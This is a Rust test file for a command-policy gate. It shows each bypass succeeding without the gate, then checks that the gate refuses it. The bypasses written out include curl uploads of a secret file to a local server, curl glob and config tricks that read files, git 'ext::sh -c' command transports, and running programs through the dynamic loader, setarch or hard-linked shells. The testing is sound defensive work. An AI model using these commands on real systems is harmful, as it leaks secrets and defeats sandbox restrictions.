//! Attacks on the command policy, class by class, against real programs and files. Where it
//! means something, each test first runs the attack without toolgate (the program started
//! directly, in the same fixture) and sees it succeed, so the refusal that follows is the
//! check's doing. Programs that are not installed are skipped with a message.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::command::trampoline::listed_names;
use crate::command::*;

pub(super) struct Fixture {
    _dir: tempfile::TempDir,
    pub(super) base: PathBuf,
    pub(super) work: PathBuf,
    pub(super) outside: PathBuf,
}

const SECRET: &str = "TOP-SECRET-4711";

pub(super) fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    let work = base.join("work");
    let outside = base.join("outside");
    std::fs::create_dir_all(work.join("src")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret"), SECRET).unwrap();
    std::fs::write(work.join("payload"), "payload").unwrap();
    Fixture {
        _dir: dir,
        base,
        work,
        outside,
    }
}

/// The absolute path of `name` on this process's PATH, or `None` (with a message) when it is
/// not installed.
pub(super) fn installed(name: &str) -> Option<PathBuf> {
    let found = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|dir| dir.join(name))
        .find(|path| path.is_file());
    if found.is_none() {
        eprintln!("skipped: {name} is not installed");
    }
    found
}

/// Runs `program` directly (no toolgate) in `cwd` and returns its stdout.
pub(super) fn plain(program: impl AsRef<std::ffi::OsStr>, args: &[&str], cwd: &Path) -> String {
    let output = Command::new(program)
        .args(args)
        .current_dir(cwd)
        .env("HOME", cwd)
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

pub(super) fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|a| a.to_string()).collect()
}

pub(super) fn cli(f: &Fixture, binaries: &[&str]) -> CliExecute {
    CliExecute::new(
        &f.work,
        &CliExecuteConfig {
            allowed_binaries: strings(binaries),
            ..Default::default()
        },
    )
    .unwrap()
}

pub(super) fn open_shell(f: &Fixture, rules: &[(&str, Approval)]) -> ShellToolset {
    ShellToolset::new(
        &f.work,
        &ShellConfig {
            rules: rules
                .iter()
                .map(|(pattern, approval)| ShellRule {
                    pattern: pattern.to_string(),
                    approval: *approval,
                })
                .collect(),
            default: Some(Approval::PreApproved),
            ..Default::default()
        },
    )
    .unwrap()
}

pub(super) fn refused_code(policy: &CliExecute, binary: &str, args: &[&str]) -> String {
    match policy.check(binary, &strings(args), None) {
        Ok(_) => panic!("{binary} {args:?} passed"),
        Err(refusal) => refusal.error.code().to_string(),
    }
}

#[test]
fn url_shaped_arguments_are_confined_like_any_path() {
    let f = fixture();
    std::fs::create_dir(f.work.join("https:")).unwrap();
    symlink(&f.outside, f.work.join("ftp:")).unwrap();
    symlink("/", f.work.join("root:")).unwrap();
    let rooted = format!("root:/{}/secret", f.outside.display());
    let attacks = [
        "https://../../outside/secret".to_string(),
        "ftp://secret".to_string(),
        "ftp:/secret".to_string(),
        rooted,
        "HTTPS://../../outside/secret".to_string(),
    ];
    let policy = cli(&f, &["cat"]);
    let shell = open_shell(&f, &[]);
    for attack in &attacks {
        if attack != "HTTPS://../../outside/secret" {
            assert_eq!(
                plain("cat", &[attack], &f.work),
                SECRET,
                "{attack} without toolgate"
            );
        }
        assert_eq!(refused_code(&policy, "cat", &[attack]), "PATH_OUTSIDE_ROOT");
        let explained = shell.explain(&format!("cat '{attack}'"));
        assert_eq!(
            explained.refusal.map(|r| r.error.code()),
            Some("PATH_OUTSIDE_ROOT"),
            "{attack}"
        );
    }
}

#[test]
fn url_shaped_destinations_cannot_write_outside() {
    let f = fixture();
    std::fs::create_dir(f.work.join("x:")).unwrap();
    // Without toolgate, cp writes through the URL-shaped relative path.
    plain("cp", &["payload", "x://../../outside/proof"], &f.work);
    assert!(f.outside.join("proof").exists());
    let policy = cli(&f, &["cp", "touch"]);
    for (program, args) in [
        ("cp", &["payload", "x://../../outside/f"][..]),
        ("cp", &["payload", "--target-directory=x://../../outside"]),
        ("touch", &["x://../../outside/f"]),
        ("cp", &["payload", "y:x,z://../../outside/f"]),
    ] {
        assert_eq!(refused_code(&policy, program, args), "PATH_OUTSIDE_ROOT");
    }
    assert!(!f.outside.join("f").exists());
}

#[test]
fn ordinary_urls_still_pass() {
    let f = fixture();
    let policy = cli(&f, &["printf"]);
    for url in [
        "https://example.com/a/b",
        "git@github.com:org/x.git",
        "https://host.example/x.git",
        "http://127.0.0.1:8080/api",
        "ssh://git@host/org/x",
    ] {
        policy
            .check("printf", &strings(&["%s", url]), None)
            .unwrap_or_else(|refusal| panic!("{url}: {}", refusal.error));
    }
}

#[test]
fn curl_url_globs_cannot_make_a_file_url() {
    let f = fixture();
    let Some(curl) = installed("curl") else {
        return;
    };
    let secret = f.outside.join("secret").display().to_string();
    let attacks = [
        format!("{{fil}}e://{secret}"),
        format!("[f-f]ile://{secret}"),
        format!("fi{{l,x}}e://{secret}"),
        format!("{{F}}ILE://{secret}"),
        format!("{{http://127.0.0.1:9,fi}}le://{secret}"),
    ];
    let policy = cli(&f, &["curl"]);
    for attack in &attacks {
        assert!(
            plain(&curl, &["-s", attack], &f.work).contains(SECRET),
            "{attack} without toolgate"
        );
        assert_eq!(
            refused_code(&policy, "curl", &["-s", attack]),
            "ARGUMENT_REJECTED"
        );
    }
}

#[test]
fn curl_options_that_turn_urls_into_files_are_refused() {
    let f = fixture();
    let Some(curl) = installed("curl") else {
        return;
    };
    let secret = f.outside.join("secret").display().to_string();
    std::fs::write(f.work.join("cfg"), format!("url = \"file://{secret}\"\n")).unwrap();
    let schemeless = format!("localhost{secret}");
    let attacks: [&[&str]; 4] = [
        &["-s", "-K", "cfg"],
        &["-sKcfg"],
        &["-s", "--config", "cfg"],
        &["-s", "--proto-default", "file", &schemeless],
    ];
    let policy = cli(&f, &["curl"]);
    for attack in attacks {
        assert!(
            plain(&curl, attack, &f.work).contains(SECRET),
            "{attack:?} without toolgate"
        );
        assert_eq!(refused_code(&policy, "curl", attack), "ARGUMENT_REJECTED");
    }
}

#[test]
fn git_command_transports_are_refused() {
    let f = fixture();
    let Some(git) = installed("git") else {
        return;
    };
    let attack = "ext::sh -c touch% pwned-by-ext";
    plain(
        &git,
        &["-c", "protocol.ext.allow=always", "clone", attack, "dest"],
        &f.work,
    );
    assert!(f.work.join("pwned-by-ext").exists(), "ext:: ran nothing");
    std::fs::remove_file(f.work.join("pwned-by-ext")).unwrap();
    let policy = cli(&f, &["git"]);
    for args in [
        &["-c", "protocol.ext.allow=always", "clone", attack, "d"][..],
        &["clone", "EXT::sh -c id", "d"],
        &["fetch", "fd::3"],
        &["-c", "remote.x.url=ext::sh -c id", "fetch", "x"],
    ] {
        assert_eq!(
            refused_code(&policy, "git", args),
            "ARGUMENT_REJECTED",
            "{args:?}"
        );
    }
    assert!(!f.work.join("pwned-by-ext").exists());
}

/// A one-shot HTTP server on 127.0.0.1 that returns what it was sent.
fn capture_one_request() -> (String, std::thread::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/upload", listener.local_addr().unwrap());
    let handle = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream
            .set_read_timeout(Some(std::time::Duration::from_secs(5)))
            .unwrap();
        let mut seen = Vec::new();
        let mut buffer = [0u8; 4096];
        while let Ok(read) = stream.read(&mut buffer) {
            if read == 0 {
                break;
            }
            seen.extend_from_slice(&buffer[..read]);
            if String::from_utf8_lossy(&seen).contains(SECRET) {
                break;
            }
        }
        let _ =
            stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        String::from_utf8_lossy(&seen).into_owned()
    });
    (url, handle)
}

#[test]
fn prefix_and_path_forms_cannot_send_files_from_outside() {
    let f = fixture();
    let Some(curl) = installed("curl") else {
        return;
    };
    // Without toolgate, curl sends the file named after '@'.
    let (url, server) = capture_one_request();
    plain(&curl, &["-s", "-d", "@../outside/secret", &url], &f.work);
    assert!(server.join().unwrap().contains(SECRET));
    let (url, server) = capture_one_request();
    plain(&curl, &["-s", "-F", "f=<../outside/secret", &url], &f.work);
    assert!(server.join().unwrap().contains(SECRET));

    let policy = cli(&f, &["curl"]);
    let url = "http://127.0.0.1:9/";
    for args in [
        &["-d", "@../outside/secret", url][..],
        &["-d@../outside/secret", url],
        &["--data-binary", "@../outside/secret", url],
        &["--data-urlencode", "name@../outside/secret", url],
        &["--data-urlencode", "@../outside/secret", url],
        &["-F", "f=<../outside/secret", url],
        &["-F", "f=@../outside/secret", url],
        &["-F", "f=@../outside/secret;type=text/plain", url],
        &["-F", "f=@\"../outside/secret\";filename=x", url],
        &["-T", "../outside/secret", url],
        &["--json", "@../outside/secret", url],
        &["-H", "@../outside/secret", url],
        &["-w", "%output{../outside/written}x", url],
    ] {
        assert_eq!(
            refused_code(&policy, "curl", args),
            "PATH_OUTSIDE_ROOT",
            "{args:?}"
        );
    }
    // httpie-style and other prefix forms, checked as arguments of any program.
    let printf = cli(&f, &["printf"]);
    for arg in [
        "field=@../outside/secret",
        "field:=@../outside/secret",
        "field=<../outside/secret",
        "field@../outside/secret",
        "name=@/etc/passwd;type=text/plain",
    ] {
        assert_eq!(
            refused_code(&printf, "printf", &["%s", arg]),
            "PATH_OUTSIDE_ROOT"
        );
    }
    // Ordinary text with the same characters passes.
    for arg in [
        "a@b.example",
        "git@host:org/x.git",
        "HEAD@{1}",
        "user@host",
        "field=@value",
    ] {
        printf
            .check("printf", &strings(&["%s", arg]), None)
            .unwrap_or_else(|refusal| panic!("{arg}: {}", refusal.error));
    }
}

#[test]
fn every_listed_trampoline_that_is_installed_is_refused() {
    let f = fixture();
    let shell = open_shell(&f, &[]);
    let mut checked = Vec::new();
    for name in listed_names() {
        let Some(path) = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
            .map(|dir| dir.join(name))
            .find(|path| path.is_file())
        else {
            continue;
        };
        for command in [name.to_string(), path.display().to_string()] {
            let explained = shell.explain(&format!("{command} --version"));
            assert_eq!(
                explained.refusal.map(|r| r.error.code()),
                Some("SHELL_NOT_ALLOWED"),
                "{command}"
            );
        }
        let err = CliExecute::new(
            &f.work,
            &CliExecuteConfig {
                allowed_binaries: strings(&["ls", name]),
                ..Default::default()
            },
        )
        .unwrap_err();
        assert_eq!(err.code(), "CONFIG_INVALID", "{name}");
        checked.push(name);
    }
    eprintln!("checked against installed binaries: {checked:?}");
    assert!(checked.contains(&"sh"), "{checked:?}");
}

/// The dynamic loader of this machine: (the path programs name, its real file).
fn loader() -> Option<(PathBuf, PathBuf)> {
    let named = [
        "/lib64/ld-linux-x86-64.so.2",
        "/lib/ld-linux-aarch64.so.1",
        "/lib/ld-musl-x86_64.so.1",
        "/lib/ld-musl-aarch64.so.1",
    ]
    .iter()
    .map(PathBuf::from)
    .find(|path| path.exists());
    if named.is_none() {
        eprintln!("skipped: no dynamic loader at a known path");
    }
    let named = named?;
    let real = std::fs::canonicalize(&named).ok()?;
    Some((named, real))
}

#[test]
fn the_dynamic_loader_is_refused_under_every_path() {
    let f = fixture();
    let Some((named, real)) = loader() else {
        return;
    };
    let echo = std::fs::canonicalize("/bin/echo").unwrap();
    // Without toolgate, the loader runs the program named in its arguments.
    let proof = plain(
        &named,
        &[echo.to_str().unwrap(), "ran-through-the-loader"],
        &f.work,
    );
    assert_eq!(proof.trim(), "ran-through-the-loader");

    let links = f.base.join("links");
    std::fs::create_dir(&links).unwrap();
    symlink(&real, f.work.join("loader-link")).unwrap();
    symlink(&real, links.join("innocent")).unwrap();
    std::fs::copy(&real, f.work.join("loader-copy")).unwrap();
    let mut paths = vec![
        named.display().to_string(),
        real.display().to_string(),
        "./loader-link".to_string(),
        "./loader-copy".to_string(),
        links.join("innocent").display().to_string(),
    ];
    if Path::new("/usr/bin/ld.so").exists() {
        paths.push("/usr/bin/ld.so".into());
    }
    if std::fs::hard_link(&real, f.work.join("loader-hard")).is_ok() {
        paths.push("./loader-hard".into());
    } else {
        eprintln!("no hard link: the work directory is on another file system than the loader");
    }
    let shell = open_shell(&f, &[]);
    for path in &paths {
        let explained = shell.explain(&format!("{path} {} pwned", echo.display()));
        let refusal = explained.refusal.unwrap_or_else(|| panic!("{path} passed"));
        assert_eq!(refusal.error.code(), "SHELL_NOT_ALLOWED", "{path}");
        assert!(
            refusal.error.to_string().contains("loader"),
            "{}",
            refusal.error
        );
    }
}

#[test]
fn setarch_and_its_personalities_are_refused() {
    let f = fixture();
    let Some(setarch) = installed("setarch") else {
        return;
    };
    let machine = plain("uname", &["-m"], &f.work).trim().to_string();
    // Without toolgate, setarch runs the program named in its arguments.
    let proof = plain(
        &setarch,
        &[&machine, "/bin/echo", "ran-through-setarch"],
        &f.work,
    );
    assert_eq!(proof.trim(), "ran-through-setarch");
    let shell = open_shell(&f, &[]);
    let links = f.base.join("links");
    std::fs::create_dir(&links).unwrap();
    symlink(&setarch, links.join("innocent")).unwrap();
    let mut commands = vec![
        format!("setarch {machine} /bin/echo pwned"),
        format!("{} /bin/echo pwned", links.join("innocent").display()),
    ];
    for alias in ["linux32", "linux64", "i386", "x86_64", "uname26"] {
        if installed(alias).is_some() {
            commands.push(format!("{alias} /bin/echo pwned"));
        }
    }
    if std::fs::hard_link(std::fs::canonicalize(&setarch).unwrap(), links.join("hard")).is_ok() {
        commands.push(format!("{} /bin/echo pwned", links.join("hard").display()));
    }
    assert!(commands.len() >= 3, "{commands:?}");
    for command in &commands {
        assert_eq!(
            shell.explain(command).refusal.map(|r| r.error.code()),
            Some("SHELL_NOT_ALLOWED"),
            "{command}"
        );
    }
}

#[test]
fn a_hard_link_to_a_shell_under_an_innocent_name_is_refused() {
    let f = fixture();
    let shell = open_shell(&f, &[]);
    let mut refused = 0;
    for name in ["bash", "dash", "sh", "env"] {
        let Some(path) = installed(name) else {
            continue;
        };
        let real = std::fs::canonicalize(&path).unwrap();
        let link = f.work.join(format!("innocent-{name}"));
        if std::fs::hard_link(&real, &link).is_err() {
            eprintln!("skipped {name}: cannot hard-link across file systems");
            continue;
        }
        let explained = shell.explain(&format!("./innocent-{name} -c true"));
        assert_eq!(
            explained.refusal.map(|r| r.error.code()),
            Some("SHELL_NOT_ALLOWED"),
            "{name}"
        );
        refused += 1;
    }
    eprintln!("{refused} hard links refused");
}

/// A repository in the work directory with one commit, and a bare remote beside it.
pub(super) fn repository(f: &Fixture, git: &Path) -> PathBuf {
    let remote = f.base.join("remote.git");
    let run = |args: &[&str], cwd: &Path| {
        let status = Command::new(git)
            .args(args)
            .current_dir(cwd)
            .env("HOME", &f.base)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(status.status.success(), "git {args:?}: {status:?}");
    };
    run(&["init", "-q", "--bare", remote.to_str().unwrap()], &f.base);
    run(&["init", "-q", "-b", "main", "."], &f.work);
    run(
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "x",
        ],
        &f.work,
    );
    run(
        &["remote", "add", "origin", remote.to_str().unwrap()],
        &f.work,
    );
    remote
}

pub(super) fn pushed(remote: &Path) -> bool {
    remote.join("refs/heads/main").exists()
        || std::fs::read_to_string(remote.join("packed-refs"))
            .is_ok_and(|refs| refs.contains("refs/heads/main"))
}

#[test]
fn a_blocked_git_push_is_blocked_under_every_spelling() {
    let f = fixture();
    let Some(git) = installed("git") else {
        return;
    };
    let remote = repository(&f, &git);
    let exec_path = plain(&git, &["--exec-path"], &f.work).trim().to_string();
    let dashed = Path::new(&exec_path).join("git-push");
    // Without toolgate, git's dashed form pushes: it is `git push`.
    if dashed.exists() {
        Command::new(&dashed)
            .args(["-q", "origin", "main"])
            .current_dir(&f.work)
            .env("HOME", &f.base)
            .output()
            .unwrap();
        assert!(pushed(&remote), "git-push did not push");
    }
    let shell = open_shell(
        &f,
        &[
            ("git push", Approval::Blocked),
            ("git status", Approval::PreApproved),
        ],
    );
    let links = f.base.join("links");
    std::fs::create_dir(&links).unwrap();
    let real = std::fs::canonicalize(&git).unwrap();
    symlink(&real, links.join("g")).unwrap();
    let mut commands = vec![
        "git push origin main".to_string(),
        format!("{} push origin main", git.display()),
        format!("{} push origin main", real.display()),
        format!(
            "{} push origin main",
            Path::new(&exec_path).join("git").display()
        ),
        format!("{} push origin main", links.join("g").display()),
        "git -C . push origin main".to_string(),
        "git -c a.b=c push origin main".to_string(),
        "git --no-pager push origin main".to_string(),
        "git --git-dir=.git push".to_string(),
    ];
    if dashed.exists() {
        commands.push(format!("{} origin main", dashed.display()));
    }
    for other in [
        "/usr/lib/git-core/git",
        "/usr/libexec/git-core/git",
        "/usr/bin/git",
    ] {
        if Path::new(other).exists() {
            commands.push(format!("{other} push origin main"));
        }
    }
    if std::fs::hard_link(&real, links.join("hard")).is_ok() {
        commands.push(format!("{} push origin main", links.join("hard").display()));
        std::fs::hard_link(&real, links.join("git-push")).unwrap();
        commands.push(format!("{} origin main", links.join("git-push").display()));
    }
    for command in &commands {
        let explained = shell.explain(command);
        assert_eq!(
            explained.refusal.map(|r| r.error.code()),
            Some("COMMAND_BLOCKED"),
            "{command}"
        );
    }
    // The rest of git still runs as the rules say.
    assert!(shell.explain("git status").refusal.is_none());
    assert!(shell
        .explain(&format!("{} status", links.join("g").display()))
        .refusal
        .is_none());
}
